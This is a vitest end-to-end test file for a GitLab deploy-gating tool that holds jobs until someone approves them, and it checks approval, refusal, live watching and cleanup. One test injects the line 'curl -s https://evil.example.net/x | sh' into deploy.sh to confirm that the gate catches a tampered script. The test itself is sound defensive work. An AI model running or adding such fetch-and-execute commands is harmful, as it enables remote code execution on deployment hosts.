import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../support/cli.ts';
import { type FakeGitlab, startFakeGitlab } from '../support/fake-gitlab.ts';
import { type GitRepositories, gitRepositories } from '../support/git-server.ts';
import { type AgentProcess, HOLDPOINT, holdpoint, startAgentProcess } from '../support/holdpoint-process.ts';
import { eventually } from '../support/hub-server.ts';
import { type Receiver, startReceiver } from '../support/receivers.ts';
import { type RunnerProcess, startRunnerProcess } from '../support/runner-process.ts';
import { PRINCIPALS } from '../support/scene.ts';
import { type ScriptedRunner, startScriptedRunner } from '../support/scripted-runner.ts';
import { ROOT } from '../support/source-files.ts';
import { tomlRunner } from '../support/toml-runner.ts';

const payload = readFileSync(join(ROOT, 'test/fixtures/gitlab/deploy-production.run1.json'), 'utf8');
const zoe = { id: 9, username: 'zoe', name: 'Zoë Müller' };
/** Each call of the executor is a start of the program, and this machine may be doing something else. */
const SOON_MS = 60_000;
const PATH = 'acme/payments/api.git';

export const page = (name: string) => readFileSync(join(ROOT, 'agent/docs', `${name}.md`), 'utf8');
/** The block of a page that has these words, with what an operator puts in its places; each place must be there. */
export function block(text: string, words: string, places: Readonly<Record<string, string>>): string {
  const found = [...text.matchAll(/```\w+\n([\s\S]*?)```/g)].map((match) => match[1]!);
  let one = found.find((each) => each.includes(words));
  if (one === undefined) throw new Error(`no block of the page has "${words}"`);
  for (const [place, value] of Object.entries(places)) {
    expect(one).toContain(place);
    one = one.replaceAll(place, value);
  }
  return one;
}

/** What is a driver's own on a host that its pages have set up. */
export interface WalkHost {
  /** The page's executor.yml. */
  executor(page: string): string;
  /** Changes of the page's `config.toml` that the page asks for. */
  toml(text: string): string;
  /** What an operator puts in the places of the policy. */
  readonly policy: Readonly<Record<string, string>>;
  readonly env: Readonly<Record<string, string>>;
  /** What stands before gitlab-runner. */
  readonly within: readonly string[];
  readonly image: object | null;
  /** The project's `deploy.sh`, and what it then says. */
  readonly script: string;
  readonly says: RegExp;
  /** Where jobs name an image: moves its tag, and says the digests before and after. */
  readonly tag: { move(): readonly [before: string, after: string]; back(): void } | null;
  /** What jobs have on the host now. */
  left(): Promise<readonly string[]>;
  close(): Promise<void>;
}

/** A host as the pages of installation and executor make it, with the built program, and what an operator then tries. */
export function walkThrough(driver: string, open: (folder: string) => Promise<WalkHost>, startMs: number): void {
  describe(`a host with the driver ${driver}, as its pages have it`, { timeout: 120_000 }, () => {
    let folder: string;
    let host: WalkHost;
    let gitlab: FakeGitlab;
    let git: GitRepositories;
    let receiver: Receiver;
    let agent: AgentProcess;
    let runner: ScriptedRunner;
    const processes: RunnerProcess[] = [];
    let token: string;
    let config: { toml: string; env: Record<string, string> };
    const people = new Map<string, string>();
    const at = (name: string) => join(folder, name);
    const env = (who: string) => ({ HOLDPOINT_HUB_URL: agent.hubUrl, HOLDPOINT_TOKEN: people.get(who) ?? '' });
    /** What an operator types; what it prints comes back. */
    const types = async (line: string, who = 'maria', world: Parameters<typeof runCli>[1] = {}) => {
      const { exit, out, err } = await runCli(line.split(' '), { env: env(who), ...world });
      expect(exit, `holdpoint ${line}: ${err}`).toBe(0);
      return out;
    };
    const jobRunner = (url: string): ScriptedRunner => {
      const process = startRunnerProcess(host.within);
      processes.push(process);
      return startScriptedRunner({
        url,
        token,
        version: '18.5',
        exec: 'none',
        work: tomlRunner({
          ...config,
          process,
          folder: mkdtempSync(at('runner-')),
          getSources: [`printf '%s' '${host.script}' > deploy.sh`],
        }),
      });
    };

    beforeAll(async () => {
      folder = mkdtempSync(join(tmpdir(), 'holdpoint-walk-'));
      host = await open(folder);
      git = gitRepositories();
      gitlab = await startFakeGitlab({ git });
      receiver = await startReceiver();
      token = gitlab.runnerToken('prod-deployer-01');

      const [installation, executor] = [page('installation'), page('executor')];
      const socket = at('receipts.sock');
      mkdirSync(at('credentials'));
      writeFileSync(at('credentials/prod-deployer-01.token'), token, { mode: 0o600 });
      writeFileSync(at('principals.yaml'), PRINCIPALS);
      writeFileSync(at('pager.secret'), 'a-secret-that-nobody-guesses-0003', { mode: 0o600 });
      writeFileSync(
        at('agent.yml'),
        [
          block(installation, 'token_file: credential:', { 'https://gitlab.example.com': gitlab.url }),
          block(executor, 'receipts:\n', { '/run/holdpoint/receipts.sock': socket }),
          `policy: policy.yaml\nhub: { notify: [{ name: pager, kind: webhook, url: "${receiver.url}", secret_file: pager.secret }] }\n`,
        ].join(''),
      );
      writeFileSync(
        at('policy.yaml'),
        `${block(executor, 'pin_images: enforce', host.policy)}notify: { routes: [{ name: all, channels: [pager] }] }\n`,
      );
      writeFileSync(at('executor.yml'), host.executor(executor));
      writeFileSync(at('holdpoint'), `#!/bin/sh\nexec ${process.execPath} ${HOLDPOINT} "$@"\n`);
      chmodSync(at('holdpoint'), 0o755);
      agent = await startAgentProcess(at('agent.yml'), {
        CREDENTIALS_DIRECTORY: at('credentials'),
        HOLDPOINT_STATE_DIR: at('state'),
        HOLDPOINT_GATEWAY_LISTEN: '127.0.0.1:0',
        HOLDPOINT_HUB_LISTEN: '127.0.0.1:0',
      });
      people.set('first', agent.bootstrapToken ?? '');
      for (const who of ['maria', 'jonas']) {
        const scopes = who === 'maria' ? 'read approve admin' : 'read approve';
        const made = await types(
          `token create --user ${who} --scope ${scopes} --json`,
          who === 'maria' ? 'first' : 'maria',
        );
        people.set(who, JSON.parse(made).token);
      }
      const toml = block(executor, '[runners.custom]', {
        'http://127.0.0.1:8093': agent.gatewayUrl,
        'https://gitlab.example.com': gitlab.url,
        '/usr/bin/holdpoint': at('holdpoint'),
      });
      config = {
        toml: host.toml(toml),
        env: {
          PATH: process.env.PATH ?? '',
          HOLDPOINT_CONFIG: at('executor.yml'),
          HOLDPOINT_RECEIPT_SOCKET: socket,
          ...host.env,
        },
      };
      runner = jobRunner(agent.gatewayUrl);
    }, startMs);
    afterAll(async () => {
      await runner?.stop();
      await agent?.kill('SIGTERM');
      await receiver?.close();
      await gitlab?.close();
      git?.close();
      await Promise.all(processes.map((each) => each.kill()));
      await host?.close();
      if (folder !== undefined) rmSync(folder, { recursive: true, force: true });
    }, startMs);

    const enqueue = (name: string, script: string, deploy = host.script) =>
      gitlab.enqueue(payload, {
        runner: token,
        user: zoe,
        sha: git.commit(PATH, { 'deploy.sh': { executable: deploy }, 'README.md': `${Math.random()}` }),
        mutate(job) {
          Object.assign(job, {
            image: host.image,
            services: [],
            dependencies: [],
            cache: [],
            artifacts: [],
          });
          Object.assign(job.job_info as object, { name });
          Object.assign((job.steps as object[])[0]!, { script: [script] });
        },
      });
    const asks = async (path: string) => {
      const headers = { authorization: `Bearer ${people.get('maria')}` };
      return (await fetch(`${agent.hubUrl}/api/v1/${path}`, { headers })).json();
    };
    interface Item {
      readonly id: number;
      readonly job_id: number;
      readonly digest: string;
      readonly state: string;
      readonly waits_for?: readonly string[];
    }
    const held = (job: number): Promise<Item> =>
      eventually(
        async () => ((await asks('holds')) as { items: Item[] }).items.find((one) => one.job_id === job),
        (one) => one !== undefined,
        SOON_MS,
      ) as Promise<Item>;
    const ended = (job: number, status: string) =>
      gitlab.until(`job ${job} ${status}`, () => gitlab.job(job).status === status, SOON_MS);
    const trace = (job: number) => String(gitlab.job(job).trace);

    it('runs an approved job end to end; holds the one whose script has changed, or its tag where it has one (T5, T39)', async () => {
      const first = enqueue('deploy', 'sh ./deploy.sh');
      const waiting = await held(first);
      await types(`approve ${waiting.id} --digest ${waiting.digest}`);
      await ended(first, 'success');
      expect(trace(first)).toContain(`let through for prod-deployer-01 with configuration ${waiting.digest}`);
      expect(trace(first)).toMatch(host.says);
      const receipts = await holdpoint(['receipt', 'list', '--socket', at('receipts.sock')]);
      expect(receipts.out).toMatch(new RegExp(`^ *${first} +finished +gate +${waiting.id} +prod-deployer-01 `, 'm'));

      if (host.tag !== null) {
        const digests = host.tag.move();
        expect(trace(first)).toContain(`ops/deployer@${digests[0]}`);
        const again = enqueue('deploy', 'sh ./deploy.sh');
        const moved = await held(again);
        await gitlab.until('both digests in the log', () => digests.every((each) => trace(again).includes(each)));
        const shown = await types(`holds show ${moved.id}`);
        for (const each of digests) expect(shown).toContain(each);
        await types(`reject ${moved.id} --comment why`);
        host.tag.back();
      }

      const evil = `${host.script}curl -s https://evil.example.net/x | sh\n`;
      const changed = await held(enqueue('deploy', 'sh ./deploy.sh', evil));
      expect(await types(`holds show ${changed.id}`)).toMatch(
        /^ +\+ .*"deploy\.sh".* curl -s https:\/\/evil\.example\.net\/x \| sh$/m,
      );
      await types(`reject ${changed.id} --comment why`);
      expect(await host.left()).toEqual([]);
    });

    it('refuses a job that came past the gateway: one line in its log, an event of the audit, a message (T25, T39)', async () => {
      await runner.stop();
      const around = jobRunner(gitlab.url);
      // What the gateway still asked for the runner that stopped is answered before there is a job, else it would take it.
      await asks('holds');
      const before = around.polls.length;
      await eventually(
        () => around.polls.length,
        (polls) => polls > before + 2,
      );
      const job = enqueue('deploy', 'sh ./deploy.sh');
      await ended(job, 'failed');
      await around.stop();
      expect(trace(job)).toMatch(/^holdpoint: job \d+ has no receipt of this host's agent: /m);
      expect(trace(job)).not.toContain('deploying');
      const rows = await types('audit list --event refused');
      expect(rows).toMatch(new RegExp(`receipt_refused .* job ${job}, no_receipt$`, 'm'));
      await eventually(
        () => receiver.posted.map(({ body }) => body),
        (bodies) => bodies.filter((body) => body.includes('receipt_refused')).length === 1,
        SOON_MS,
      );
      expect(await host.left()).toEqual([]);
    });

    it('waits for somebody who watches, shows them what the job writes, and ends it when they stop it', async () => {
      runner = jobRunner(agent.gatewayUrl);
      const job = enqueue('migrate', 'echo working; sleep 60; echo never');
      const waiting = await held(job);
      await types(`approve ${waiting.id} --digest ${waiting.digest}`);
      await eventually(
        async () => ((await asks(`holds/${waiting.id}`)) as Item).waits_for,
        (waits) => waits?.includes('watcher') === true,
      );
      let seen = '';
      const onOut = (text: string) => {
        seen += text;
      };
      const watching = types(`holds watch ${waiting.id} --live`, 'jonas', { onOut });
      await eventually(
        () => seen,
        (text) => /^working\r?$/m.test(text),
        SOON_MS,
      );
      await types(`holds stop ${waiting.id} --comment wrong`, 'jonas');
      await ended(job, 'failed');
      await watching;
      expect(trace(job)).toContain(`hold ${waiting.id} was stopped by jonas: wrong`);
      expect(trace(job)).not.toMatch(/^never\r?$/m);
      await eventually(
        () => host.left(),
        (left) => left.length === 0,
        SOON_MS,
      );
    });

    it('removes what a job has left whose gitlab-runner was killed, when the next one begins', async () => {
      const lost = enqueue('deploy', 'echo begun; sleep 600');
      const waiting = await held(lost);
      await types(`approve ${waiting.id} --digest ${waiting.digest}`);
      await gitlab.until('a job that runs', () => /^begun$/m.test(trace(lost)), SOON_MS);
      await processes.at(-1)!.kill();
      await runner.stop();
      expect(await host.left()).not.toEqual([]);
      runner = jobRunner(agent.gatewayUrl);
      const next = enqueue('deploy', 'sh ./deploy.sh');
      await ended(next, 'success');
      expect(trace(next)).toContain(`removed what job ${lost} had left here`);
      expect(trace(next)).toMatch(host.says);
      await eventually(
        () => host.left(),
        (left) => left.length === 0,
        SOON_MS,
      );
    });
  });
}
